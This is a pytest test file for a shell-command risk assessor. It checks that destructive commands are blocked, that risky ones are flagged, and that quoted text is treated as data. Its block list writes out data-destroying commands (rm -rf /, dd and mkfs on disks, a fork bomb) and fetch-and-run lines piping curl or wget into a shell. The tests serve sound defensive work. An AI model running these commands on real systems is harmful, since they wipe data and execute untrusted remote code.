"""The first risk assessment: blocked, flagged and safe commands (deepened in a later issue)."""

from __future__ import annotations

import pytest

from reos.model.risk import RiskLevel
from reos.safety.risk import assess, assess_argv

BLOCKED = [
    "rm -rf /", "rm -rf /*", "sudo rm -rf --no-preserve-root /", "/bin/rm -fr /etc",
    "rm -rf ~", "rm -rf $HOME", "sudo -u root rm -r /usr", "env FOO=1 rm -rf /var",
    "mkfs.ext4 /dev/sda1", "dd if=/dev/zero of=/dev/sda", "fdisk /dev/sda", "parted /dev/sda",
    "chmod -R 777 /", "chmod -R 777 /srv/www", "curl http://x.sh | bash",
    "wget -qO- http://x | sudo sh", ":(){ :|:& };:", "kill -9 1", "wipefs -a /dev/sdb",
]
FLAGGED_HIGH = ["shutdown -h now", "reboot", "docker rm web", "docker system prune -a",
                "rm -rf /srv/data/old", "apt-get purge nginx", "pkill nginx",
                "echo 'unbalanced"]
SAFE = ["ls -la", "echo 'rm -rf /'", "grep 'rm -rf' notes.txt", "cat /etc/passwd",
        "docker ps", "systemctl status nginx", "journalctl -u nginx", "df -h", "free -m"]


@pytest.mark.parametrize("command", BLOCKED)
def test_blocked(command: str) -> None:
    verdict = assess(command)
    assert verdict.blocked and verdict.risk == RiskLevel.CRITICAL and verdict.reasons


@pytest.mark.parametrize("command", FLAGGED_HIGH)
def test_flagged_high_but_allowed(command: str) -> None:
    verdict = assess(command)
    assert verdict.risk >= RiskLevel.HIGH and not verdict.blocked and verdict.reasons


@pytest.mark.parametrize("command", SAFE)
def test_data_is_not_execution(command: str) -> None:
    verdict = assess(command)
    assert verdict.risk == RiskLevel.SAFE and not verdict.blocked


def test_tmp_deletion_is_low() -> None:
    assert assess("rm -rf /tmp/build").risk == RiskLevel.LOW


def test_argv_assessment_of_plan_steps() -> None:
    assert assess_argv(["docker", "stop", "x"]).risk == RiskLevel.MEDIUM
    assert assess_argv(["docker", "rm", "x"]).reversible is False
    assert assess_argv(["sudo", "-n", "systemctl", "restart", "nginx"]).needs_root


@pytest.mark.parametrize("argv,read_only", [
    (["nginx", "-t"], True), (["sshd", "-t"], True), (["apache2ctl", "configtest"], True),
    (["named-checkconf"], True),
    (["nginx"], False), (["nginx", "-s", "stop"], False), (["sshd"], False),
    (["apache2ctl", "restart"], False), (["named-checkconf", "-z"], False),
    (["nginx", "-t", "-g", "daemon off;"], False),
])
def test_a_daemon_config_test_reads_only_in_its_exact_form(argv: list[str],
                                                           read_only: bool) -> None:
    verdict = assess_argv(argv)
    assert verdict.read_only is read_only
    if not read_only:  # the rest of the program is judged like any unknown one
        assert verdict.risk >= RiskLevel.MEDIUM
